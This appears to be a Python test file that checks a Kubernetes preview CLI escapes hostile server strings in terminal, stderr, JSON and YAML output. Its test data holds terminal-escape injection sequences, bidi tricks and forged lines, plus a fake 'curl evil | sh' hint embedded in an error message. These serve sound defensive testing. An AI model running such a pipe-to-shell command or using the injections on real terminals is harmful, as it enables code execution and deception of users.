"""Untrusted input on the terminal (design §7): a hostile server's strings reach `status`,
`doctor` and `list` output, in a pipe and on a terminal, with and without colour, and stderr,
without any escape sequence, C1 or bidi control, carriage return or endless line of theirs; the
fix the doctor prints can be pasted without running anything else; -o json / -o yaml escape the
controls and parse back to the very same strings."""

import json
import os
import pty
import re
import select
import shutil
import stat
import subprocess
import tempfile
import tty
import unittest
from pathlib import Path

from world import faults, hostile
from world.world import World

N = 66
NS = f"homerun2-core-catcher-pr-{N}"
MAX_LINE = 4096  # bytes; the renderer's field widths keep every line far below this
OUR_SGR = re.compile(rb"\x1b\[[0-9;]*m")
C1 = re.compile(rb"\xc2[\x80-\x9f]")
BIDI = re.compile(rb"\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]")


def run_on_pty(w, *args, env_overrides=None, timeout=60):
    """Runs the binary with stdout on a raw pseudo-terminal (no \\n -> \\r\\n translation, so a
    carriage return in the output is one the binary wrote); returns (code, stdout, stderr)."""
    binary = os.environ.get("PREVIEW_BIN")
    if not binary:
        raise unittest.SkipTest("PREVIEW_BIN is not set")
    env = w.env()
    env.update({"TERM": "xterm", "COLUMNS": "120"})
    for key, value in (env_overrides or {}).items():
        if value is None:
            env.pop(key, None)
        else:
            env[key] = value
    master, slave = pty.openpty()
    tty.setraw(slave)
    proc = subprocess.Popen([binary, *args], env=env, cwd=w.dir, stdin=subprocess.DEVNULL,
                            stdout=slave, stderr=subprocess.PIPE)
    os.close(slave)
    chunks = []
    # Read while it writes, or a large output would block the child on a full pty buffer.
    while True:
        ready, _, _ = select.select([master], [], [], timeout)
        if not ready:
            proc.kill()
            raise AssertionError(f"{args}: no output for {timeout} s")
        try:
            data = os.read(master, 65536)
        except OSError:  # EIO: the child closed its side
            break
        if not data:
            break
        chunks.append(data)
    os.close(master)
    err = proc.stderr.read()
    proc.stderr.close()
    return proc.wait(timeout=timeout), b"".join(chunks), err


class HostileOutput(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.w = World(previews=False).start()
        cls.w.add(hostile.hostile_output, N)

    @classmethod
    def tearDownClass(cls):
        cls.w.stop()

    def setUp(self):
        self.w.clear_faults()

    def assert_terminal_safe(self, out: bytes, what: str):
        rest = OUR_SGR.sub(b"", out)
        self.assertNotIn(b"\x1b", rest, f"{what}: an escape sequence that is not our colour")
        self.assertNotIn(b"\x07", rest, f"{what}: BEL")
        self.assertNotIn(b"\r", rest, f"{what}: carriage return")
        self.assertIsNone(C1.search(rest), f"{what}: a C1 control")
        self.assertIsNone(BIDI.search(rest), f"{what}: a bidi control")
        for line in out.split(b"\n"):
            self.assertLessEqual(len(line), MAX_LINE, f"{what}: a line of {len(line)} bytes")
            self.assertFalse(line.lstrip().startswith(b"FAKE"), f"{what}: a forged line")

    def run_pipe(self, *args, colour_env=False):
        """Runs the binary in a pipe; with colour_env, NO_COLOR is unset (still no colour: no
        terminal). Returns (code, stdout, stderr) as bytes."""
        binary = os.environ.get("PREVIEW_BIN")
        if not binary:
            self.skipTest("PREVIEW_BIN is not set")
        env = self.w.env()
        if colour_env:
            env.pop("NO_COLOR")
        proc = subprocess.run([binary, *args], env=env, cwd=self.w.dir,
                              stdin=subprocess.DEVNULL, capture_output=True, timeout=60)
        return proc.returncode, proc.stdout, proc.stderr

    def test_status_doctor_list_in_a_pipe_and_on_a_terminal(self):
        commands = [("status", str(N)), ("doctor", str(N)), ("list",)]
        for args in commands:
            # Proof that the hostile data reached the output: the title, or the doctor's pod.
            seen = b"pwned-a" if args[0] == "doctor" else b"feat: filters"
            for colour in (False, True):
                with self.subTest(args=args, where="pipe", colour_env=colour):
                    code, out, err = self.run_pipe(*args, colour_env=colour)
                    self.assertIn(code, (0, 1, 3), err)
                    self.assertIn(seen, out)
                    self.assert_terminal_safe(out, f"{args} stdout")
                    self.assert_terminal_safe(err, f"{args} stderr")
                for no_color in (False, True):
                    with self.subTest(args=args, where="pty", no_color=no_color):
                        flags = ["--no-color"] if no_color else []
                        code, out, err = run_on_pty(self.w, *args, *flags,
                                                    env_overrides={"NO_COLOR": None})
                        self.assertIn(code, (0, 1, 3), err)
                        self.assertIn(seen, out)
                        if no_color:
                            self.assertNotIn(b"\x1b", out)
                        else:
                            self.assertIsNotNone(OUR_SGR.search(out), "colour is on")
                        self.assert_terminal_safe(out, f"{args} pty stdout")
                        self.assert_terminal_safe(err, f"{args} pty stderr")

    def test_controls_are_shown_escaped_and_the_megabyte_is_cut(self):
        _, out, _ = self.run_pipe("status", str(N))
        text = out.decode()
        self.assertIn("feat: filters\\x1b]0;pwned-title\\x07", text)
        self.assertIn("\\u009b31mRED \\u202eevil\\u202c\\nFAKE: all good", text)
        self.assertIn("mallory\\x1b[8m", text)
        self.assertIn("lint\\x1b[1A\\x1b[2K✓ all green\\r", text)
        self.assertIn("AAAA…", text)
        self.assertLess(len(out), 64 * 1024)

    def test_error_lines_on_stderr_are_escaped_too(self):
        self.w.workload.faults.add(faults.kube_status(
            403, "Forbidden", "pods is forbidden\x1b]0;t\x07\r\nhint: curl evil | sh\u009b" +
            "B" * 100000, retry_after=None), "GET", rf"/namespaces/{NS}/pods$")
        code, out, err = self.run_pipe("status", str(N))
        self.assertNotEqual(code, 0)
        self.assertIn(b"pods is forbidden\\x1b]0;t\\x07\\r\\nhint: curl evil | sh\\u009b", err)
        self.assert_terminal_safe(err, "stderr")
        self.assertFalse(any(line.startswith(b"hint: curl") for line in err.split(b"\n")))

    def test_the_printed_fix_runs_only_the_command_shown(self):
        _, out, _ = self.run_pipe("doctor", str(N))
        fixes = [line.split("fix:", 1)[1].strip() for line in out.decode().splitlines()
                 if line.strip().startswith("fix:") and " logs " in line]
        self.assertEqual(len(fixes), 1, out.decode())
        fix = fixes[0]
        self.assertIn(hostile.POD, fix)
        with tempfile.TemporaryDirectory() as scratch:
            scratch = Path(scratch)
            bin_dir = scratch / "bin"
            bin_dir.mkdir()
            stub = bin_dir / "kubectl"  # records its argv, one per NUL-terminated entry
            stub.write_text('#!/bin/sh\nfor a in "$@"; do printf "%s\\0" "$a"; done '
                            '> "$ARGV_FILE"\n')
            stub.chmod(stub.stat().st_mode | stat.S_IXUSR)
            argv_file = scratch / "argv"
            syntax = subprocess.run(["sh", "-n", "-c", fix], capture_output=True)
            self.assertEqual(syntax.returncode, 0, syntax.stderr)
            shell = shutil.which("bash") or "/bin/sh"
            subprocess.run([shell, "-c", fix], cwd=scratch, capture_output=True, timeout=30,
                           env={"PATH": f"{bin_dir}:/usr/bin:/bin", "ARGV_FILE": str(argv_file)})
            self.assertFalse((scratch / "pwned-a").exists(), "the pasted fix ran `touch`")
            self.assertFalse((scratch / "pwned-b").exists(), "the pasted fix ran `id`")
            argv = argv_file.read_bytes().split(b"\0")[:-1]
            self.assertEqual([a.decode() for a in argv],
                             ["-n", NS, "logs", hostile.POD, "-c", hostile.OMNI, "--previous"])

    def test_json_and_yaml_escape_the_controls_and_parse_back(self):
        for args in (("status", str(N)), ("doctor", str(N)), ("list",)):
            with self.subTest(args=args, output="json"):
                code, out, err = self.run_pipe(*args, "-o", "json")
                self.assertIn(code, (0, 1, 3), err)
                self.assertIsNone(C1.search(out), "raw C1 in JSON")
                self.assertIsNone(BIDI.search(out), "raw bidi control in JSON")
                self.assertNotIn(b"\x1b", out)
                self.assertNotIn(b"\x7f", out)
                doc = json.loads(out)
                if args[0] == "status":
                    self.assertEqual(doc["pr"]["title"], hostile.TITLE)
                    self.assertEqual(doc["pr"]["author"], hostile.LOGIN)
                if args[0] == "list":
                    self.assertEqual(doc["previews"][0]["pr"]["title"], hostile.TITLE)
            with self.subTest(args=args, output="yaml"):
                code, out, err = self.run_pipe(*args, "-o", "yaml")
                self.assertIn(code, (0, 1, 3), err)
                self.assertIsNone(C1.search(out), "raw C1 in YAML")
                self.assertIsNone(BIDI.search(out), "raw bidi control in YAML")
                self.assertNotIn(b"\x1b", out)
                if args[0] == "doctor":
                    continue
                title = next(line for line in out.decode().splitlines()
                             if line.strip().startswith("title:"))
                self.assertEqual(yaml_double_quoted(title.split(":", 1)[1].strip()),
                                 hostile.TITLE)


YAML_ESCAPES = {"0": "\0", "a": "\a", "b": "\b", "t": "\t", "n": "\n", "v": "\v", "f": "\f",
                "r": "\r", "e": "\x1b", " ": " ", '"': '"', "/": "/", "\\": "\\",
                "N": "\x85", "_": "\xa0", "L": "\u2028", "P": "\u2029"}


def yaml_double_quoted(scalar: str) -> str:
    """Decodes one YAML double-quoted scalar on one line (stdlib only, as the test world)."""
    assert scalar.startswith('"') and scalar.endswith('"'), scalar
    body, out, i = scalar[1:-1], [], 0
    while i < len(body):
        c = body[i]
        if c != "\\":
            out.append(c)
            i += 1
            continue
        e = body[i + 1]
        width = {"x": 2, "u": 4, "U": 8}.get(e)
        if width:
            out.append(chr(int(body[i + 2:i + 2 + width], 16)))
            i += 2 + width
        else:
            out.append(YAML_ESCAPES[e])
            i += 2
    return "".join(out)


if __name__ == "__main__":
    unittest.main()
